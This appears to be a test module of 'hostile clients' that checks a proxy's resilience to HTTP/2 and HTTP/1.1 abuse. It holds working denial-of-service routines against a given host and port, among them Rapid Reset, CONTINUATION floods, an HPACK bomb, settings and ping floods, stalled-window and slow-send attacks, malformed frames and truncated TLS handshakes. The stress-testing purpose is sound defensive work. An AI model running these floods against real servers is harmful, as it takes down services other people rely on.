"""Hostile clients. Each case gets a job (host, port, tls, authority) and returns its connection, or a dict of its own."""
import itertools
import socket
import ssl
import struct
import time

import h2.config
import h2.connection
import hpack
from hyperframe.frame import PingFrame, RstStreamFrame, SettingsFrame, WindowUpdateFrame

from frames import *

ENDLESS = 1_000_000_000


def opening(job, path=b"/hold"):
    """The head of a stream that stays open: a request nobody answers, or a tunnel where only these are let in."""
    return connect(job["authority"].encode()) if job.get("tls") else get(path)


def odd():
    return itertools.count(1, 2)


def rapid_reset(job):
    head = opening(job)
    cancel = struct.pack(">I", 8)
    pairs = (frame(HEADERS, END_HEADERS | END_STREAM, i, head) + frame(RST, 0, i, cancel) for i in odd())
    return Peer.dial(job).open().flood(pairs, 100_000)


def late_reset(job):
    peer, ids = Peer.dial(job).open(), odd()
    head = opening(job)
    for _ in range(40):
        batch = [next(ids) for _ in range(100)]
        peer.send(b"".join(frame(HEADERS, END_HEADERS, i, head) for i in batch), 100)
        if not peer.turn():
            break
        peer.send(b"".join(RstStreamFrame(i, error_code=8).serialize() for i in batch), 100)
        if not peer.turn():
            break
    peer.wait(3)
    return peer


def made(make):
    """Each stream is opened as it should be, and then made to be reset by the proxy."""

    def case(job):
        peer, head = Peer.dial(job).open(), opening(job)
        frames = (frame(HEADERS, END_HEADERS, i, head) + make(i) for i in odd())
        return peer.flood(frames, 20_000)

    return case


def made_after_end(make):
    def case(job):
        peer, head = Peer.dial(job).open(), opening(job)
        frames = (frame(HEADERS, END_HEADERS | END_STREAM, i, head) + make(i, head) for i in odd())
        return peer.flood(frames, 20_000)

    return case


def over_limit(job):
    head = opening(job)
    return Peer.dial(job).open().flood((frame(HEADERS, END_HEADERS, i, head) for i in odd()), 20_000)


def wrong_length(job):
    head = get(b"/", 0x83) + literal(b"content-length", b"5")
    frames = (frame(HEADERS, END_HEADERS, i, head) + frame(DATA, END_STREAM, i, b"abc") for i in odd())
    return Peer.dial(job).open().flood(frames, 20_000)


def malformed(field):
    def case(job):
        head = opening(job) + field
        return Peer.dial(job).open().flood((frame(HEADERS, END_HEADERS | END_STREAM, i, head) for i in odd()), 20_000)

    return case


def endless(one, most=200_000, start=b""):
    """One frame again and again."""

    def case(job):
        peer = Peer.dial(job).open()
        if start == b"stream":
            peer.send(frame(HEADERS, END_HEADERS, 1, opening(job)))
        return peer.flood(itertools.repeat(one), most)

    return case


def continuation(part):
    def case(job):
        peer = Peer.dial(job).open()
        peer.send(frame(HEADERS, 0, 1, get()))
        return peer.flood(itertools.repeat(frame(CONTINUATION, 0, 1, part)), 10_000)

    return case


def hpack_bomb(job):
    """One entry of 4 KB, named as often as fits a frame: 60 MB for 20 KB."""
    encoder = hpack.Encoder()
    entry = encoder.encode([(b"x-bomb", b"b" * 3900)], huffman=False)
    peer = Peer.dial(job).open()
    first = opening(job) + entry
    peer.send(frame(HEADERS, END_HEADERS | END_STREAM, 1, first))
    refs = b"\xbe" * 15_000
    return peer.flood((frame(HEADERS, END_HEADERS | END_STREAM, i, opening(job) + refs) for i in itertools.count(3, 2)), 500)


def crumbs(job):
    """Cookie crumbs of one byte each by index, on many streams whose answers have no window."""
    peer = Peer.dial(job).open(struct.pack(">HI", 4, 0))
    peer.send(frame(HEADERS, END_HEADERS, 1, opening(job) + b"\x60\x01x"))
    block = opening(job) + b"\xbe" * 15_000
    return peer.flood((frame(HEADERS, END_HEADERS, i, block) for i in itertools.count(3, 2)), 1000)


def few_crumbs(job):
    """Just above the count of fields: refused each, and not for ever."""
    peer = Peer.dial(job).open()
    peer.send(frame(HEADERS, END_HEADERS, 1, opening(job) + b"\x60\x01x"))
    block = opening(job) + b"\xbe" * 120
    return peer.flood((frame(HEADERS, END_HEADERS, i, block) for i in itertools.count(3, 2)), 20_000)


def settings_entries(job):
    return Peer.dial(job).open().flood([frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65535) * 2400)], 1)


def settings_windows(job):
    """The window of 200 streams up and down: each change is a walk over all of them."""
    peer, head = Peer.dial(job).open(), opening(job)
    peer.send(b"".join(frame(HEADERS, END_HEADERS, i, head) for i in itertools.islice(odd(), 200)), 200)
    flip = itertools.cycle([frame(SETTINGS, 0, 0, struct.pack(">HI", 4, n)) for n in (1, 65535)])
    return peer.flood(flip, 200_000)


def setting(ident, value):
    return lambda job: Peer.dial(job).open(struct.pack(">HI", ident, value)).flood([], 0)


def all_types(job):
    kinds = itertools.cycle([k for k in range(10, 256)])
    return Peer.dial(job).open().flood((frame(k, 255, 1, b"abcdef") for k in kinds), 200_000)


def stalled(path, streams=100):
    """Answers that are asked for and given no window."""

    def case(job):
        peer = Peer.dial(job).open(struct.pack(">HI", 4, 0))
        head = get(path)
        peer.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, head) for i in itertools.islice(odd(), streams)))
        peer.wait(15, lambda: peer.resets >= streams)
        return peer

    return case


def unread_answers(job):
    """Answers without bodies leave their streams at once; nobody reads them."""
    peer = Peer.dial(job, small_buffer=True).open()
    peer.turn()
    peer.reading = False
    head, ids = get(b"/%00"), odd()  # refused by the proxy itself, at once
    limit = time.monotonic() + 15
    rest = b""
    while time.monotonic() < limit and not peer.ended:
        rest = rest or b"".join(frame(HEADERS, END_HEADERS | END_STREAM, next(ids), head) for _ in range(500))
        try:
            rest = rest[peer.sock.send(rest) :]
            peer.frames_sent += 0 if rest else 500
        except BlockingIOError:
            time.sleep(0.005)
        except OSError:
            peer.ended = True
        peer.ended = peer.ended or end_is_near(peer.sock)
    return peer


def end_is_near(sock):
    """Whether the kernel knows of the other side's end (ESTABLISHED is 1)."""
    state = sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 1)
    return state[0] != 1


def tiny_data(job):
    peer = Peer.dial(job).open()
    peer.send(frame(HEADERS, END_HEADERS, 1, get(b"/hold", 0x83)))
    return peer.flood(itertools.repeat(frame(DATA, 0, 1, b"x")), 60_000)


def beyond_window(job):
    peer = Peer.dial(job).open()
    peer.send(frame(HEADERS, END_HEADERS, 1, get(b"/hold", 0x83)))
    return peer.flood(itertools.repeat(frame(DATA, 0, 1, b"x" * 16384)), 1000)


def byte_by_byte(job):
    """A proper request in segments of one byte: slow, and answered."""
    config = h2.config.H2Configuration(client_side=True)
    c = h2.connection.H2Connection(config)
    c.initiate_connection()
    stream = c.get_next_available_stream_id()
    c.send_headers(stream, [(":method", "GET"), (":scheme", "http"), (":authority", "app"), (":path", "/")], True)
    peer = Peer.dial(job)
    for byte in c.data_to_send():
        peer.send(bytes([byte]), 0)
    peer.wait(5, lambda: len(peer.heads) > 0)
    return {"ended": peer.ended, "answered": len(peer.heads), "frames": 3, "bytes": peer.bytes_sent}


def abrupt(job):
    """Connections cut inside the preface, a frame's head, a header block, a body."""
    whole = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 0, 1, opening(job)) + frame(CONTINUATION, 0, 1, b"\x82")
    n = 0
    for i in range(job.get("count", 300)):
        peer = Peer.dial(job)
        peer.send(whole[: 1 + i * 7 % len(whole)])
        n += 1
        if i % 2:
            peer.abort()
        else:
            peer.close()
    return {"ended": True, "frames": n, "bytes": 0}


def garbage(job):
    peer = Peer.dial(job)
    peer.send(b"\x16\x03\x01 this is no preface of anything" * 1000)
    peer.wait(10)
    return peer


def http1(text, wait=8):
    """HTTP/1.1 as text; the answer's status is looked at."""

    def case(job):
        peer = Peer.dial(job)
        sock, seen = peer.sock, b""
        sock.settimeout(wait)
        parts = text if callable(text) else (lambda: [text])
        sent = 0
        try:
            for part in parts():
                sock.sendall(part)
                sent += len(part)
        except OSError:
            pass
        try:
            while len(seen) < 65536:
                data = sock.recv(65536)
                if not data:
                    break
                seen += data
        except OSError:
            pass
        peer.close()
        return {"ended": True, "status": seen[9:12].decode("latin1"), "frames": 1, "bytes": sent}

    return case


def endless_field():
    yield b"GET / HTTP/1.1\r\nHost: app\r\nX: "
    for _ in range(2000):
        yield b"y" * 16384


def endless_fields():
    yield b"GET / HTTP/1.1\r\nHost: app\r\n"
    for i in range(100_000):
        yield b"x%d: y\r\n" % i


def chunk_extensions():
    yield b"POST /hold HTTP/1.1\r\nHost: app\r\nTransfer-Encoding: chunked\r\n\r\n5;x="
    for _ in range(65536):
        yield b"y" * 16384


def tiny_chunks():
    yield b"POST /hold HTTP/1.1\r\nHost: app\r\nTransfer-Encoding: chunked\r\n\r\n"
    for _ in range(200):
        yield b"1\r\nx\r\n" * 1000


def odd_names(job):
    """Names that are special where objects are maps, and many that look like indexes: answered as any other."""
    names = [b"__proto__", b"constructor", b"tostring", b"hasownproperty", b"valueof"]
    names += [b"%d" % (i * 65536) for i in range(80)]
    head = get(b"/") + b"".join(literal(name, b"x") for name in names)
    peer = Peer.dial(job).open()
    ids = odd()
    for _ in range(20):
        batch = [next(ids) for _ in range(20)]
        wanted = len(peer.heads) + len(batch)
        peer.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, i, head) for i in batch), len(batch))
        peer.wait(5, lambda: len(peer.heads) >= wanted)
    return {"ended": peer.ended, "answered": len(peer.heads) // 400, "frames": peer.frames_sent, "bytes": peer.bytes_sent}


def grpc_timeout(job):
    """A timeout beyond any clock (CVE-2021-28682)."""
    peer = Peer.dial(job).open()
    for i, value in zip(odd(), [b"99999999H", b"0n", b"-1S", b"1", b"999999999999H", b"x"]):
        fields = literal(b"content-type", b"application/grpc") + literal(b"te", b"trailers") + literal(b"grpc-timeout", value)
        peer.send(frame(HEADERS, END_HEADERS | END_STREAM, i, get(b"/", 0x83) + fields))
    peer.wait(5, lambda: len(peer.heads) >= 6)
    return {"ended": peer.ended, "answered": len(peer.heads) // 6, "frames": peer.frames_sent, "bytes": peer.bytes_sent}


def handshakes(job):
    """TLS that ends early: at each byte of a hello, with an ALPN nobody speaks, without a certificate."""
    hello = ssl.MemoryBIO()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["spdy/9"])
    side = context.wrap_bio(ssl.MemoryBIO(), hello)
    try:
        side.do_handshake()
    except ssl.SSLWantReadError:
        pass
    data = hello.read()
    n = 0
    for i in range(job.get("count", 300)):
        sock = socket.create_connection((job["host"], job["port"]), 10)
        try:
            if i % 3 == 0:
                with context.wrap_socket(sock) as tls:
                    tls.send(PREFACE)
            else:
                sock.sendall(data[: 1 + i * 5 % len(data)])
        except OSError:
            pass
        n += 1
        sock.close()
    return {"ended": True, "frames": n, "bytes": 0}


CASES = {
    "odd-names": odd_names,
    "grpc-timeout": grpc_timeout,
    "handshakes": handshakes,
    "rapid-reset": rapid_reset,
    "late-reset": late_reset,
    "made-by-window-update-0": made(lambda i: WindowUpdateFrameOf0(i)),
    "made-by-window-overflow": made(lambda i: frame(WINDOW, 0, i, struct.pack(">I", 0x7FFFFFFF))),
    "made-by-short-priority": made(lambda i: frame(PRIORITY, 0, i, b"\0" * 4)),
    "made-by-own-dependency": made(lambda i: frame(PRIORITY, 0, i, struct.pack(">IB", i, 1))),
    "made-by-data-after-end": made_after_end(lambda i, head: frame(DATA, 0, i, b"x")),
    "made-by-headers-after-end": made_after_end(lambda i, head: frame(HEADERS, END_HEADERS | END_STREAM, i, head)),
    "made-by-stream-limit": over_limit,
    "made-by-content-length": wrong_length,
    "empty-name": malformed(b"\0\0\x01x"),
    "upper-case-name": malformed(b"\0\x01X\x01x"),
    "line-feed-in-value": malformed(b"\0\x01x\x03a\nb"),
    "continuation-flood": continuation(literal(b"a", b"b")),
    "continuation-empty": continuation(b""),
    "hpack-bomb": hpack_bomb,
    "cookie-crumbs": crumbs,
    "cookie-crumbs-few": few_crumbs,
    "hpack-bad-index": malformed(b"\xff\xff\xff\x7f"),
    "hpack-size-updates": lambda job: Peer.dial(job).open().flood([frame(HEADERS, 5, 1, b"\x20" * 1000 + get())], 1),
    "settings-flood": endless(SettingsFrame(settings={4: 65535}).serialize()),
    "settings-entries": settings_entries,
    "settings-windows": settings_windows,
    "settings-frame-size-0": setting(5, 0),
    "settings-window-too-large": setting(4, 0x80000000),
    "ping-flood": endless(PingFrame(opaque_data=b"01234567").serialize()),
    "empty-data": endless(frame(DATA, 0, 1), start=b"stream"),
    "padded-empty-data": endless(frame(DATA, PADDED, 1, b"\x10" + b"\0" * 16), start=b"stream"),
    "priority-idle-streams": lambda job: Peer.dial(job).open().flood((frame(PRIORITY, 0, i, b"\0" * 5) for i in odd()), 100_000),
    "priority-open-stream": endless(frame(PRIORITY, 0, 1, b"\0" * 5), start=b"stream"),
    "window-update-flood": endless(WindowUpdateFrame(0, window_increment=1).serialize()),
    "window-update-stream": endless(WindowUpdateFrame(1, window_increment=1).serialize(), start=b"stream"),
    "window-overflow": endless(frame(WINDOW, 0, 0, struct.pack(">I", 0x7FFFFFFF)), 3),
    "unknown-frames": all_types,
    "oversize-frame": endless(frame(DATA, 0, 1, b"x" * 16385), 1, start=b"stream"),
    "push-from-client": endless(frame(PUSH, END_HEADERS, 1, struct.pack(">I", 2) + get()), 1, start=b"stream"),
    "headers-on-even-stream": lambda job: Peer.dial(job).open().flood([frame(HEADERS, 5, 2, opening(job))], 1),
    "goaway-flood": endless(frame(GOAWAY, 0, 0, b"\0" * 8), start=b"stream"),
    "stalled-answers": stalled(b"/mid"),
    "stalled-large-answers": stalled(b"/big"),
    "unread-answers": unread_answers,
    "tiny-data": tiny_data,
    "data-beyond-window": beyond_window,
    "byte-by-byte": byte_by_byte,
    "abrupt-closes": abrupt,
    "bad-preface": garbage,
    "http1-endless-field": http1(endless_field),
    "http1-endless-fields": http1(endless_fields),
    "http1-chunk-extensions": http1(chunk_extensions),
    "http1-tiny-chunks": http1(tiny_chunks, 1),
    "http1-bad-pipeline": http1(b"GET / HTTP/9.9\r\n\r\n" * 10_000),
    "http1-unread-pipeline": http1(lambda: itertools.repeat(b"GET /none HTTP/1.1\r\nHost: app\r\n\r\n" * 100, 100), 1),
}


def WindowUpdateFrameOf0(stream):
    return frame(WINDOW, 0, stream, b"\0" * 4)
